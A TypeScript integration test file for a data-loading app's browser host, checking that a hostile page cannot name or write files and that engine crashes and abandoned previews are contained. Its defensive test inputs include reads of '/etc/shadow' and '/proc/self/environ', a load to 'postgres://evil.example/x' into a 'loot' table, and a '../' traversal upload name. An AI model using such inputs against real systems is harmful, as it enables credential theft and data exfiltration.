import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseJobSpec } from '../../common/spec/job-spec.ts';
import { memoryLogger } from '../handlers/test-support.ts';
import { KeyedSecretStore, openStore } from '../store/index.ts';
import { ChildEngine } from './child-engine.ts';
import { TEST_CRASH_ON_FILE } from './crash-hook.ts';
import { type BrowserHost, startBrowserHost } from './host.ts';
import { callApi, callValue, rawRequest } from './test-support.ts';

// The browser host as `npm run serve` runs it: the engine in a child process of its own, over real
// HTTP. A hostile page (it has the token: think of a script injected into the UI) tries to read and
// write files it names; a file that kills the engine; a preview whose client goes away.

interface Granted {
  handle: string;
  name: string;
  sizeBytes: number | null;
  uploaded: boolean;
}

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'loadstone-child-'));
const dataDir = path.join(root, 'data');
const log = memoryLogger();
let engine: ChildEngine;
let host: BrowserHost;

async function upload(name: string, body: Buffer | string): Promise<Granted> {
  const res = await rawRequest(host, {
    method: 'POST',
    path: `/api/upload?name=${encodeURIComponent(name)}`,
    headers: { 'Content-Type': 'application/octet-stream' },
    body,
  });
  if (res.status !== 200) throw new Error(`upload failed (${res.status}): ${res.body}`);
  return (JSON.parse(res.body) as { value: Granted }).value;
}

beforeAll(async () => {
  fs.mkdirSync(dataDir, { mode: 0o700 });
  engine = await ChildEngine.start({
    dataDir,
    version: '0.0.0-test',
    log,
    env: { ...process.env, [TEST_CRASH_ON_FILE]: 'boom.csv', PGPASSFILE: path.join(root, 'no-pgpass') },
  });
  host = await startBrowserHost({ engine, rendererDir: null });
});

afterAll(async () => {
  await host?.close();
  await engine?.close();
  fs.rmSync(root, { recursive: true, force: true });
});

describe('browser host: a hostile page cannot name files', () => {
  it('refuses paths wherever a file goes, and handles the host did not grant', async () => {
    for (const p of ['/etc/shadow', '/proc/self/environ', path.join(dataDir, 'loadstone.db')]) {
      const preview = await callApi(host, 'preview.run', { spec: { source: { path: p } } });
      expect([preview.status, preview.reply.error?.code]).toEqual([400, 'spec_invalid']);
      const load = await callApi(host, 'loads.start', {
        spec: { source: { path: p }, target: { connection: 'postgres://evil.example/x', table: 'loot' } },
      });
      expect([load.status, load.reply.error?.code]).toEqual([400, 'spec_invalid']);
      const save = await callApi(host, 'jobs.save', { name: 'x', spec: { source: { path: p } } });
      expect(save.reply.error?.code).toBe('spec_invalid');
    }
    const guessed = await callApi(host, 'sources.inspect', { handle: 'f_AAAAAAAAAAAAAAAAAAAAAAAA' });
    expect([guessed.status, guessed.reply.error?.code]).toEqual([403, 'file_not_granted']);
  });

  it('has no way to write a file: no save dialog, no export path, only downloads', async () => {
    expect(await callValue(host, 'dialogs.saveFile', { defaultName: 'x.csv' })).toEqual({ file: null });
    expect(await callValue(host, 'dialogs.openFile', {})).toEqual({ file: null });
    const target = path.join(dataDir, 'loadstone.db');
    const byPath = await callApi(host, 'reports.export', { runId: 'r_x', format: 'csv', path: target });
    expect(byPath.status).toBe(400);
    const guessed = await callApi(host, 'reports.export', { runId: 'r_x', format: 'csv', file: 'w_guess' });
    expect([guessed.status, guessed.reply.error?.code]).toEqual([403, 'file_not_granted']);
  });

  it('an upload named like the store lands in its own folder; its handle reads only it', async () => {
    const before = fs.statSync(path.join(dataDir, 'loadstone.db')).ino;
    const file = await upload('../loadstone.db', 'id\n1\n');
    expect(file).toMatchObject({ name: '../loadstone.db', uploaded: true });
    expect(fs.statSync(path.join(dataDir, 'loadstone.db')).ino).toBe(before);
    const inspected = await callValue<{ columns: string[] }>(host, 'sources.inspect', {
      handle: file.handle,
      format: 'csv',
    });
    expect(inspected.columns).toEqual(['id']);
  });

  it('a job saved from an upload keeps the original name and says it reads an uploaded copy', async () => {
    const file = await upload('Ventes été.csv', 'sku;price\nA-1;3,50\n');
    await callValue(host, 'jobs.save', {
      name: 'ventes',
      spec: { source: { handle: file.handle }, target: { table: 'ventes', mode: 'append' } },
    });
    const [job] = await callValue<Array<Record<string, unknown>>>(host, 'jobs.list', {});
    expect(job).toMatchObject({
      name: 'ventes',
      sourceName: 'Ventes été.csv',
      uploaded: true,
      mode: 'append',
    });
    const opened = await callValue<{ file: Granted }>(host, 'jobs.get', { name: 'ventes' });
    expect(opened.file).toMatchObject({ name: 'Ventes été.csv', uploaded: true });
    expect(await callValue(host, 'sources.inspect', { handle: opened.file.handle })).toMatchObject({
      columns: ['sku', 'price'],
    });
  });
});

describe('browser host: the engine never takes the host down', () => {
  it('a file that kills the engine fails that call; the host answers and a new engine takes over', async () => {
    const good = await upload('fine.csv', 'a\n1\n');
    const boom = await upload('boom.csv', 'a\n1\n');
    const firstPid = engine.pid;
    const crashed = await callApi(host, 'preview.run', { spec: { source: { handle: boom.handle } } });
    expect(crashed.status).toBe(503);
    expect(crashed.reply.error).toMatchObject({ code: 'engine_crashed' });
    expect(crashed.reply.error?.message).toContain('restarted');

    expect((await callApi(host, 'app.info', {})).status).toBe(200);
    expect(engine.starts).toBe(2);
    expect(engine.pid).not.toBe(firstPid);
    // Grants died with the engine: the page is told to pick the file again.
    const stale = await callApi(host, 'preview.run', { spec: { source: { handle: good.handle } } });
    expect(stale.reply.error).toMatchObject({ code: 'file_not_granted' });
    const again = await upload('fine.csv', 'a\n1\n');
    const preview = await callValue<{ rows: unknown[] }>(host, 'preview.run', {
      spec: { source: { handle: again.handle } },
    });
    expect(preview.rows).toHaveLength(1);
  });

  it('a preview whose client went away is cancelled: the engine stops reading the file', async () => {
    // A header, one row, then 8 GiB of blank lines (512 gzip members of 16 MiB each, 37 MB on disk):
    // the preview reads to the end for more rows, which takes minutes. The file is read only as fast
    // as it is decompressed and tokenized (backpressure holds through the gunzip), about 72 KB of it
    // per 16 MiB of blank lines.
    const member = gzipSync(Buffer.alloc(16 * 1024 * 1024, '\n'), { level: 1 });
    const parts = [gzipSync('a,b\n1,2\n'), ...Array.from({ length: 512 }, () => member)];
    const file = await upload('endless.csv.gz', Buffer.concat(parts));
    const size = file.sizeBytes!;

    const request = http.request({
      host: '127.0.0.1',
      port: host.port,
      method: 'POST',
      path: '/api/call/preview.run',
      headers: {
        Host: `127.0.0.1:${host.port}`,
        Authorization: `Bearer ${host.token}`,
        'Content-Type': 'application/json',
      },
    });
    request.on('error', () => {});
    request.end(JSON.stringify({ spec: { source: { handle: file.handle } } }));

    // Wait until the engine's main read of the file is under way (past the 2-byte magic and the
    // detection head, each read by a short-lived descriptor of its own that stops within its first
    // two 256 KiB reads), then go away.
    const pid = engine.pid!;
    const reading = await waitFor(() => {
      const fd = openFd(pid, 'endless.csv.gz');
      return fd !== null && fdPosition(pid, fd) > 512 * 1024 ? fd : null;
    }, 90_000);
    request.destroy();
    let lastPos = 0;
    await waitFor(() => {
      const still = fdTarget(pid, reading) === file.name;
      if (still) lastPos = Math.max(lastPos, fdPosition(pid, reading));
      return !still;
    });
    expect(reading).not.toBeNull();
    // It let go of the file long before reaching its end, and the engine is alive and well.
    expect(lastPos).toBeLessThan(size / 2);
    expect(engine.starts).toBe(2);
    expect((await callApi(host, 'app.info', {})).status).toBe(200);
  });

  it('downloads a report from the engine process in acknowledged chunks, whole', async () => {
    const store = openStore(dataDir, { secretStore: new KeyedSecretStore(randomBytes(32)) });
    let runId: string;
    try {
      const spec = parseJobSpec({ source: { path: '/elsewhere/in.csv' }, target: { table: 't' } });
      runId = store.runs.create({ spec, sourceColumns: ['note'] });
      const writer = store.rejects.writer(runId);
      for (let i = 0; i < 3000; i++) {
        const note = `row ${i} ${'x'.repeat(100)}`;
        writer.add([
          {
            line: i + 2,
            stage: 'normalize',
            raw: { note },
            errors: [{ column: 'note', value: note, reason: 'invalid_integer', message: 'm' }],
          },
        ]);
      }
      writer.flush();
      store.runs.finish(runId, { status: 'succeeded', counts: { read: 3000, inserted: 0 } });
    } finally {
      store.close();
    }
    const res = await rawRequest(host, { path: `/api/reports/${runId}/export?format=ndjson` });
    expect(res.status).toBe(200);
    const lines = res.body.trim().split('\n');
    // About 600 KB: ten chunks or so, each acknowledged before the next.
    expect(res.body.length).toBeGreaterThan(300_000);
    expect(lines).toHaveLength(3000);
    expect(JSON.parse(lines[2999]!)).toMatchObject({ line: 3001 });
  });

  it('downloads an export for fixing in the source dialect, with a BOM on request', async () => {
    const store = openStore(dataDir, { secretStore: new KeyedSecretStore(randomBytes(32)) });
    let runId: string;
    try {
      const spec = parseJobSpec({ source: { path: '/elsewhere/in.csv' }, target: { table: 't' } });
      runId = store.runs.create({
        spec,
        sourceColumns: ['id', 'note'],
        sourceFormat: {
          kind: 'csv',
          encoding: 'utf-8',
          compression: 'none',
          delimiter: ';',
          quote: '"',
          header: true,
        },
      });
      store.rejects.writer(runId).add([
        {
          line: 2,
          stage: 'normalize',
          raw: { id: 'x1', note: 'a;b' },
          errors: [
            { column: 'id', value: 'x1', reason: 'invalid_integer', message: "'x1' is not an integer" },
          ],
        },
      ]);
      store.runs.finish(runId, { status: 'succeeded', counts: { read: 1, inserted: 0 } });
    } finally {
      store.close();
    }
    const plain = await rawRequest(host, { path: `/api/reports/${runId}/export?format=fixing` });
    expect(plain.status).toBe(200);
    expect(plain.headers['content-disposition']).toContain('-for-fixing.csv');
    expect(plain.body).toBe(`id;note;loadstone_error\r\nx1;"a;b";id: 'x1' is not an integer\r\n`);
    const bom = await rawRequest(host, { path: `/api/reports/${runId}/export?format=fixing&bom=1` });
    expect(bom.body.startsWith('\uFEFFid;note;loadstone_error')).toBe(true);
  });

  it('the store is intact after every attempt: it opens, with its jobs and connections', async () => {
    await callValue(host, 'connections.save', { name: 'wh', url: 'postgres://loader@127.0.0.1:1/db' });
    await host.close();
    await engine.close();
    const store = openStore(dataDir, { secretStore: new KeyedSecretStore(randomBytes(32)) });
    try {
      expect(store.jobs.list().map((j) => j.name)).toEqual(['ventes']);
      expect(store.connections.list().map((c) => c.name)).toContain('wh');
    } finally {
      store.close();
    }
    engine = await ChildEngine.start({ dataDir, version: '0.0.0-test', log });
    host = await startBrowserHost({ engine, rendererDir: null });
  });
});

/** Polls `probe` (every few ms) until it returns something other than null or false. */
async function waitFor<T>(probe: () => T | null | false, timeoutMs = 20_000): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const value = probe();
    if (value !== null && value !== false) return value;
    if (Date.now() > end) throw new Error('timed out waiting');
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

/** The descriptor of process `pid` open on a file named `name`, or null. */
function openFd(pid: number, name: string): string | null {
  let fds: string[];
  try {
    fds = fs.readdirSync(`/proc/${pid}/fd`);
  } catch {
    return null;
  }
  return fds.find((fd) => fdTarget(pid, fd) === name) ?? null;
}

/** The file name a descriptor of process `pid` is open on ('' when none). */
function fdTarget(pid: number, fd: string): string {
  try {
    return path.basename(fs.readlinkSync(`/proc/${pid}/fd/${fd}`));
  } catch {
    return '';
  }
}

function fdPosition(pid: number, fd: string): number {
  try {
    const info = fs.readFileSync(`/proc/${pid}/fdinfo/${fd}`, 'utf8');
    return Number(/^pos:\s+(\d+)/m.exec(info)?.[1] ?? 0);
  } catch {
    return 0;
  }
}
